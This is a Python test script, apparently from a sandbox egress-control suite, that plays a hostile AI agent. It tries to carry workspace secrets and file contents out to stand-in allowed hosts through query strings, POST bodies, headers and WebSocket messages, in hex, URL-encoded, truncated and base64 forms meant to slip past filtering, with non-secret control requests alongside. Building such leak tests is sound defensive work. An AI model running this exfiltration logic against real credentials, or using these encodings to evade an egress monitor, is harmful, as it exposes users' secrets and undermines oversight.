# A hostile agent that read its workspace: tries to carry each secret it found there out through
# allowed hosts, in every form the issue lists, and prints one JSON line per attempt: its name,
# a marker the witness must never record (or must, for the controls), the status it got, and
# what the suite expects ("seen" for a control, "unseen" for a leak).
# usage: python3 workspace_leaker.py '{"secrets": {"name": "value", ...}, "files": {...}}'
import base64, json, os, socket, ssl, sys, urllib.parse, urllib.request

cfg = json.loads(sys.argv[1])
PKG = 'https://pkg.example.test'   # an allowed, GET-only "package index"
API = 'https://api.example.test'   # an allowed host that takes POSTs and WebSockets
proxy = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])
CA = os.environ['SSL_CERT_FILE']
opener = urllib.request.build_opener(urllib.request.ProxyHandler({'https': os.environ['HTTPS_PROXY']}),
                                     urllib.request.HTTPSHandler(context=ssl.create_default_context(cafile=CA)))


def emit(name, marker, observed, expect='unseen'):
    print(json.dumps({'name': name, 'marker': marker, 'observed': str(observed)[:400],
                      'expect': expect}), flush=True)


def http(method, url, body=None, headers=None):
    req = urllib.request.Request(url, data=body, method=method, headers=headers or {})
    try:
        with opener.open(req, timeout=10) as r:
            return f'{r.status} {r.read(200)!r}'
    except urllib.error.HTTPError as e:
        return f'{e.code} {e.read(300)!r}'
    except Exception as e:
        return f'{type(e).__name__}: {e}'


def websocket(path, message):
    """One text message over a WebSocket through the proxy; what came back (or why not)."""
    try:
        s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
        s.sendall(b'CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n')
        head = b''
        while b'\r\n\r\n' not in head:
            head += s.recv(4096)
        t = ssl.create_default_context(cafile=CA).wrap_socket(s, server_hostname='api.example.test')
        key = base64.b64encode(os.urandom(16)).decode()
        t.sendall((f'GET {path} HTTP/1.1\r\nHost: api.example.test\r\nUpgrade: websocket\r\n'
                   f'Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n').encode())
        resp = b''
        while b'\r\n\r\n' not in resp:
            resp += t.recv(4096)
        if b' 101 ' not in resp.split(b'\r\n', 1)[0]:
            return resp.split(b'\r\n', 1)[0].decode('latin-1')
        data = message.encode()
        mask = os.urandom(4)
        t.sendall(bytes([0x81, 0x80 | len(data)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))
        t.settimeout(5)
        try:
            back = t.recv(4096)
        except socket.timeout:
            back = b''
        return 'echoed' if back and data in back else f'no echo ({len(back)} bytes back)'
    except Exception as e:
        return f'{type(e).__name__}: {e}'


n = 0


def marker():
    global n
    n += 1
    return f'mk{n:03d}x'


# Controls: the same hosts, the same ways, nothing secret. Without them a refusal proves nothing.
m = marker(); emit('control: GET with a query', m, http('GET', f'{PKG}/simple/{m}/?q=requests'), 'seen')
m = marker(); emit('control: POST a body', m, http('POST', f'{API}/v1/{m}', b'{"ok": true}'), 'seen')
m = marker(); emit('control: header', m, http('GET', f'{API}/v1/{m}', headers={'X-Note': 'hello'}), 'seen')
m = marker(); emit('control: websocket message', m, websocket(f'/ws/{m}', f'hello {m}'), 'seen')

for name, value in cfg['secrets'].items():
    q = urllib.parse.quote
    forms = {
        'raw': value,
        'hex': value.encode().hex(),
        'url-encoded': ''.join(f'%{b:02X}' for b in value.encode()),
        'first 12 characters': value[:12],
        'base64 of the middle': base64.b64encode(value[2:16].encode()).decode(),
    }
    for form, text in forms.items():
        m = marker(); emit(f'{name}: GET query, {form}', m, http('GET', f'{PKG}/simple/{m}/?q={q(text, safe="%")}'))
    m = marker(); emit(f'{name}: POST body', m, http('POST', f'{API}/v1/{m}', f'data={value}'.encode()))
    m = marker(); emit(f'{name}: header', m, http('GET', f'{API}/v1/{m}', headers={'X-Note': value}))
    # The marker travels only in the message: the upgrade itself is legitimate and arrives.
    m = marker(); emit(f'{name}: websocket message', m, websocket('/ws/chat', f'{m} {value}'))

# A whole file, the way the published benchmark did it: base64 of its first 40 bytes in a query.
for path in cfg['files']:
    head = open(path, 'rb').read()[:40]
    m = marker()
    emit(f'{path}: base64 of its first 40 bytes', m,
         http('GET', f'{PKG}/simple/{m}/?q={urllib.parse.quote(base64.b64encode(head).decode())}'))
emit('done', 'done', n, 'none')
